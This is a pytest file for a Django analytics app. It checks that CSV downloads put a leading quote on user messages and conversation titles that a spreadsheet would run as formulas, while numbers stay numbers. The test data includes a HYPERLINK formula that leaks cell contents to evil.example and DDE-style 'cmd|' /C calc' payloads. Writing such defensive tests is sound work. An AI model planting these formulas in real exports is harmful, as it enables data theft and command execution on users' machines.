"""CSV downloads neutralise text that a spreadsheet would run as a formula: a user's message or a
conversation title starting with =, +, -, @, a tab or a carriage return gets a leading quote,
while numbers (negative ones included) stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from accounts.csv_export import csv_cell, csv_write
from analytics.rollups import rollups_refresh
from conversations.models import Conversation, Message, ShadowConversation, ShadowPair
from rollout.models import Flag
from tests.analytics.conftest import Builder

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Where is my order?", "Where is my order?"),
        ("a=b", "a=b"),
        (-3, "-3"),
        (-0.25, "-0.25"),
        (Decimal("-1.5"), "-1.5"),
        (None, ""),
    ],
)
def test_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell


def test_csv_write_neutralises_headers_and_rows():
    out = io.StringIO()
    csv_write(out, headers=["=h", "ok"], rows=[["@x", 1], ["fine", -1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=h", "ok"], ["'@x", "1"], ["fine", "-1"]]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_shadow_csv_neutralises_the_users_question(account, member, operator_client):
    served = Conversation.objects.create(account=account, user=member, arm="legacy", routed=False)
    hidden = Conversation.objects.create(account=account, user=member, arm="multi_agent", purpose="shadow")
    shadow = ShadowConversation.objects.create(
        conversation=hidden, served=served, flag=Flag.objects.create(key="multi_agent")
    )
    question = Message.objects.create(conversation=served, role="user", content=HYPERLINK)
    legacy, multi = (
        Message.objects.create(
            conversation=c, role="assistant", status="complete", latency_ms=100, cost_usd=Decimal("0.01")
        )
        for c in (served, hidden)
    )
    ShadowPair.objects.create(shadow=shadow, question=question, legacy_reply=legacy, shadow_reply=multi)
    rows = _rows(operator_client.get("/analytics/cohorts/shadow.csv?window=24h"))
    question_column = rows[0].index("question")
    assert [row[question_column] for row in rows[1:]] == ["'" + HYPERLINK]


def test_the_busiest_conversations_csv_neutralises_titles(dataset, operator_client):
    builder = Builder(dataset.account, dataset.conversations["C1"].user)
    at = timezone.now() - timedelta(minutes=30)
    conversation = builder.conversation(arm="multi_agent", at=at, title="@SUM(1+1)*cmd|' /C calc'!A0")
    agents = dataset.agents
    builder.turn(conversation, at=at, agent=agents["beta"], latency=1200, first_token=100, cost="0.5",
                 handoffs=[(agents["alpha"], agents["beta"], "tool")])  # fmt: skip
    rollups_refresh(account_id=dataset.account.pk)
    rows = _rows(operator_client.get("/analytics/handoffs/busiest.csv?window=24h"))
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert titles == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
